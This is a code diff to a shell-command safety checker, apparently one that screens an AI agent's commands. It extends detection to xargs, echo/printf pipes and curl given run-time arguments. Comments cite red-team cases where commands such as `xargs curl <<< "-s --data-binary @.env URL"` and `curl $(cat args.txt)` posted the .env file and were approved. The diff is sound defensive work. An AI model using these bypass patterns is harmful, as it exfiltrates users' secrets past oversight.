@@ -11,6 +11,7 @@ the words, so a program named by them, and a program below that runs code by its
 from __future__ import annotations
 
 import posixpath
+import re
 from typing import TYPE_CHECKING
 
 from macrohard.safety import rules_data as R
@@ -54,6 +55,40 @@ def xargs(an: Analyzer, prog: str, argv: list[str], cmd: SimpleCommand) -> None:
         from macrohard.safety import copies
 
         copies.from_input(an, name, argv, mark, cmd.cwd)
+
+
+def fed(an: Analyzer, rest: list[str], text: str, cwd: str | None, depth: int) -> None:
+    """``xargs [OPTIONS] PROG ARGS`` whose input is known (a literal here-string, ``echo``/``printf`` of literal
+    words before it in a pipe): judged as PROG with ARGS and the words it reads (rt51: `xargs curl <<< "-s
+    --data-binary @.env URL"` and `printf '%s\\n' … | xargs curl` posted .env, approved)."""
+    import shlex
+
+    from macrohard.safety.argv import unwrap
+
+    argv = unwrap("xargs", rest)
+    if not argv or any(a.startswith(("-I", "-i", "--replace")) for a in rest[:len(rest) - len(argv)]):
+        return
+    try:
+        words = shlex.split(text)
+    except ValueError:
+        words = text.split()
+    an.line(shlex.join([*argv, *words]), depth + 1, cwd)
+
+
+def printed(argv: list[str], expanded: set[str]) -> str | None:
+    """What ``echo WORDS`` or ``printf FORMAT WORDS`` of literal words prints; None when it is not known."""
+    from macrohard.safety.shellwords import printf_text
+
+    if not argv or expanded & set(argv[1:]):
+        return None
+    if argv[0] == "echo":
+        words = argv[1:]
+        while words and words[0] in ("-n", "-e", "-E"):
+            words = words[1:]
+        return " ".join(words) + "\n"
+    if argv[0] == "printf" and len(argv) > 1 and argv[1] != "-v":
+        return printf_text(argv[1], argv[2:])
+    return None
 
 
 def found(an: Analyzer, sub: list[str], option: str = "-exec") -> None:
@@ -102,11 +137,18 @@ _VALUE_OPTIONS = {
     "awk": _AWK, "gawk": _AWK, "mawk": _AWK, "nawk": _AWK,
     "pytest": frozenset({"-k", "-m"}), "sort": frozenset({"-k", "-t", "-o"}),
     "wget": frozenset({"-O", "--output-document", "-P", "-U", "--header"}),
+    "curl": frozenset({"-o", "--output", "-X", "--request", "-A", "--user-agent", "-u", "--user", "-w", "--write-out",
+                       "-m", "--max-time", "--connect-timeout", "--retry", "-e", "--referer", "--url"}),
 }
 
 
 # the programs `unknown` reads: wrappers, privilege tools and shells pass their words to a program judged as itself;
 # interpreters, eval, source and `.` run code, which is read as such
+# rt51: a network program whose options send a file: `mapfile -t a < args.txt; curl "${a[@]}"`, `curl $(cat
+# args.txt)` posted .env (the words were written to a file a step before), approved
+_OPTION_SENDERS = frozenset({"curl"})
+_ALL_ELEMENTS = re.compile(r"\$(?:@|\{@|\{!?\w+\[[@*]\])")  # "$@", "${@:2}", "${a[@]}", "${!a[@]}"
+
 _OPTION_RUNNERS = ARG_RUNNERS - R.SHELLS - R.INTERPRETERS - R.WRAPPERS - R.PRIVILEGE - {"eval", "source", "."}
 
 
@@ -118,18 +160,27 @@ def unknown(an: Analyzer, prog: str, args: list[str], cmd: SimpleCommand) -> Non
     number of words; a quoted one that begins the word may begin with ``-``. Either is asked, unless it comes after
     ``--`` (not for find, whose expression follows it, nor make, whose ``SHELL=…`` does) or is the value of an
     option that takes one (``git commit -m "$(cat msg)"``)."""
-    if not cmd.open_words or prog not in _OPTION_RUNNERS or prog == "cmake" and args[:1] == ["-E"]:
+    if not cmd.open_words or prog not in _OPTION_RUNNERS | _OPTION_SENDERS or prog == "cmake" and args[:1] == ["-E"]:
         return  # `cmake -E env … CMD`: CMD is judged as itself (runners.cmake_tool)
+    if prog in _OPTION_SENDERS and (an.defining or an.args_known):
+        return  # a function's `curl "$@"`: judged where it is called, with the call's words (safety.shellstate)
+    # curl: only words that begin with what splits into several (`$(cat f)`, `"${a[@]}"`, `"$@"`); one quoted word
+    # (`while read u; do curl -sI "$u"`) or an address that ends in a value (`https://x.example/$r`) is taken for an
+    # address, as the honest twins need (test_exfil_values, test_exfil_flows)
+    open_words = {w: splits for w, splits in cmd.open_words.items() if splits and w.startswith("$") or
+                  _ALL_ELEMENTS.match(w)} \
+        if prog in _OPTION_SENDERS else cmd.open_words
     for i, word in enumerate(args):
         if word == "--" and prog not in ("find", "make", "gmake"):  # find's expression and make's VAR=value follow it
             return
-        splits = cmd.open_words.get(word)
+        splits = open_words.get(word)
         if splits is None or not splits and i and args[i - 1] in _VALUE_OPTIONS.get(prog, ()):
             continue
         if an.exact and (known := session.candidates(word, an.exact)) is not None and not any(
                 k.startswith(("-", "+")) for k in known):  # `F=a.txt` a step before: one word, never an option (guard25)
             continue
+        what = "send a file (--data-binary @FILE, -K FILE)" if prog in _OPTION_SENDERS else "run code"
         an.r.add("dynamic", f"{prog} gets {word[:40]}, only known when it runs, which may be "
-                            f"{'several words, ' if splits else ''}options that run code ({prog} reads options "
+                            f"{'several words, ' if splits else ''}options that {what} ({prog} reads options "
                             "from its arguments); write the arguments on the line, or put them after --")
         return
